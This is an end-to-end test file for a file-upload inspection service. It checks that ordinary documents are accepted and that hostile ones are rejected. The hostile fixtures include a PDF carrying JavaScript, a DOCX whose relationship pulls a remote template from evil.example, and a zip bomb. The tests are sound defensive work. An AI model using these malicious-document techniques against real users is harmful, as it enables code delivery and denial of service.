// Files that are looked into, from the request to the verdict, on a stack of their own.
import { createClient } from '@sluice/client/client';
import { createUploader } from '@sluice/client/uploader';
import type { ContentType } from '@sluice/contract/content-types';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { archive, WORD } from '../corpus/archive.ts';
import { honestFile } from '../corpus/bytes.ts';
import { PLAIN_PDF, packOf, pdfOf } from '../corpus/pdf.ts';
import { startOwn, type TestStack } from '../setup/local-stack.ts';

let stack: TestStack;
let stop: () => Promise<void>;
beforeAll(async () => {
  const own = async () => ({ policies: 'test/e2e/inspection-policies.ts' });
  ({ stack, stop } = await startOwn(`test-inspection-${process.pid}`, own));
}, 300_000);
afterAll(async () => {
  await stop?.();
});

const DOCX = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document';
const TEMPLATE =
  '<Relationships><Relationship Type="x/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>';
const PAGES = Object.fromEntries(Array.from({ length: 5 }, (_, page) => [page + 10, '<< /Type /Page >>']));

async function verdictOf(name: string, contentType: ContentType, bytes: Uint8Array) {
  const caller = { endpoint: stack.apiUrl, token: stack.alice.idToken };
  const file = new Blob([new Uint8Array(bytes)], { type: contentType });
  const { id } = await createUploader(caller).send(file, { filename: name, contentType });
  return createClient(caller).wait(id);
}

test.each<[string, ContentType, Uint8Array, object]>([
  ['paper.pdf', 'application/pdf', honestFile('paper.pdf'), { 'pdf.pages': 1, 'pdf.javascript': false }],
  ['letter.docx', DOCX, archive(WORD), { macros: false, external: [] }],
  ['letter.odt', 'application/vnd.oasis.opendocument.text', honestFile('letter.odt'), { encrypted: false }],
  ['rows.csv', 'text/csv', Buffer.from('a,b\n1,=2\n'), { 'csv.rows': 2, 'csv.formulas': 1 }],
  ['packed.zip', 'application/zip', honestFile('packed.zip'), { 'archive.escapes': [] }],
  ['picture.png', 'image/png', honestFile('picture.png'), { 'picture.width': 2, gps: false }],
])('%s is accepted, and says what is in it', async (name, type, bytes, facts) => {
  expect(await verdictOf(name, type, bytes)).toMatchObject({ state: 'accepted', inspection: facts });
});

test.each<[string, ContentType, Uint8Array, RegExp]>([
  [
    'script.pdf',
    'application/pdf',
    pdfOf({ ...PLAIN_PDF, 8: packOf({ 9: '<< /S /JavaScript /JS (x) >>' }) }),
    /it has JavaScript/,
  ],
  [
    'long.pdf',
    'application/pdf',
    pdfOf({ ...PLAIN_PDF, 8: packOf(PAGES) }),
    /its pages: \d found, at most 3 allowed/,
  ],
  [
    'template.docx',
    DOCX,
    archive([...WORD, { name: 'word/_rels/document.xml.rels', content: TEMPLATE }]),
    /evil\.example/,
  ],
  ['late.json', 'application/json', Buffer.from(`[${'1,'.repeat(50_000)}]`), /line 1: a value is missing/],
  [
    'bomb.zip',
    'application/zip',
    archive([{ name: 'zeros', content: Buffer.alloc(2 ** 26), isDeflated: true }]),
    /compression ratio/,
  ],
])('%s is rejected for what is in it', async (name, type, bytes, detail) => {
  expect(await verdictOf(name, type, bytes)).toMatchObject({
    state: 'rejected',
    reason: 'content_refused',
    detail: expect.stringMatching(detail),
  });
});
